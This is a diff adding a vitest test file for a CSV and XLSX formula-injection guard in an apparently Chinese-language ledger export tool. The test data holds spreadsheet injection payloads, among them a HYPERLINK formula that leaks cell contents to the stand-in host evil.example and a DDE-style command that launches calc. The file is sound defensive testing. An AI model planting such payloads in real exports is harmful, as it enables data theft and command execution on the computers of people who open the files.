@@ -1,0 +1,87 @@
+import { join } from 'node:path';
+import ExcelJS from 'exceljs';
+import { describe, expect, it } from 'vitest';
+import { chartCsv, type ChartSpec } from '../../src/lib/charts.ts';
+import { csvField, csvText, FORMULA_TRIGGERS, looksLikeFormula, safeCellText, unguardCellText } from '../../src/lib/csv.ts';
+import { toCsv } from '../../src/lib/downloads.ts';
+import type { ColumnKey } from '../../src/lib/spreadsheet/columns.ts';
+import { sheetCsv, writeSheetXlsx } from '../../src/lib/spreadsheet/workbook.ts';
+import { tempDir } from '../helpers/temp-dir.ts';
+
+/** Texts a spreadsheet would run as formulas: every trigger, full-width forms, after spaces. */
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?"&A1,"点此")',
+  '+1+cmd|\' /C calc\'!A0',
+  '-2+3',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  ' =1+1',
+  '\u3000=1+1',
+];
+const HARMLESS = ['市本级', '1.2021年12月，全市…', '2023年12月', '（1）整治', '', 'a-b', 'x=1', '8.6'];
+
+describe('the formula (CSV-injection) rule', () => {
+  it('prefixes a single quote to every text a spreadsheet would read as a formula', () => {
+    for (const text of HOSTILE) expect(safeCellText(text), JSON.stringify(text)).toBe(`'${text}`);
+    for (const trigger of FORMULA_TRIGGERS) expect(looksLikeFormula(`${trigger}x`), JSON.stringify(trigger)).toBe(true);
+  });
+
+  it('leaves text that does not start with a formula sign exactly as it is', () => {
+    for (const text of HARMLESS) expect(safeCellText(text), JSON.stringify(text)).toBe(text);
+  });
+
+  it('gives back the original text of a guarded cell, and leaves any other quote alone', () => {
+    for (const text of [...HOSTILE, ...HARMLESS]) expect(unguardCellText(safeCellText(text))).toBe(text);
+    expect(unguardCellText("'引号开头的文字")).toBe("'引号开头的文字");
+  });
+
+  it('writes a number as a number, so a negative value is not turned into text', () => {
+    expect(csvField(-3)).toBe('-3');
+    expect(csvField(-0.5)).toBe('-0.5');
+    expect(csvField('-3')).toBe("'-3");
+    expect(csvField(true)).toBe('true');
+  });
+
+  it('guards before quoting, so a guarded cell with a comma is still one field', () => {
+    expect(csvField('=1,2')).toBe(`"'=1,2"`);
+    expect(csvText([['=a', 1], ['b', null]])).toBe("\uFEFF'=a,1\r\nb,\r\n");
+  });
+});
+
+describe('every CSV and XLSX the product writes', () => {
+  it('guards text in the public downloads', () => {
+    expect(toCsv(['summary', 'value'], [{ summary: '=1+1', value: -3 }])).toBe("\uFEFFsummary,value\r\n'=1+1,-3\r\n");
+  });
+
+  it('guards a chart category and keeps its drawn numbers, negative ones included, as numbers', () => {
+    const spec = { categoryLabel: '@时间', categories: ['-2022年'], series: [{ label: '＝值', role: 'measured', values: [-1.5] }] } as unknown as ChartSpec;
+    expect(chartCsv(spec)).toBe("\uFEFF'@时间,'＝值\r\n'-2022年,-1.5\r\n");
+  });
+
+  const row = (finding: string) =>
+    ({ number: '1', finding, responsibleUnits: '市生态环境局', supervisingUnits: '市委办', deadline: '2023年12月', goal: '+目标', measures: '1.措施', progress: '', title: '简称' }) as Record<ColumnKey, string>;
+  const columns = Object.keys(row('')) as ColumnKey[];
+
+  it('guards text in the ledger CSV export', async () => {
+    const csv = await sheetCsv(columns, [row('=HYPERLINK("http://evil.example","x")')]);
+    const line = csv.split('\r\n')[1]!;
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
+    expect(line).toContain("'+目标");
+  });
+
+  it('guards text in the ledger XLSX export, and writes no formula cell', async () => {
+    const path = join(tempDir('csv-guard'), 'ledger.xlsx');
+    await writeSheetXlsx(path, columns, [row('@SUM(A1:A9)')], '清单');
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.readFile(path);
+    const sheet = workbook.worksheets[0]!;
+    expect(sheet.getCell('B2').value).toBe("'@SUM(A1:A9)");
+    expect(sheet.getCell('F2').value).toBe("'+目标");
+    expect(sheet.getCell('A2').value).toBe('1');
+  });
+});
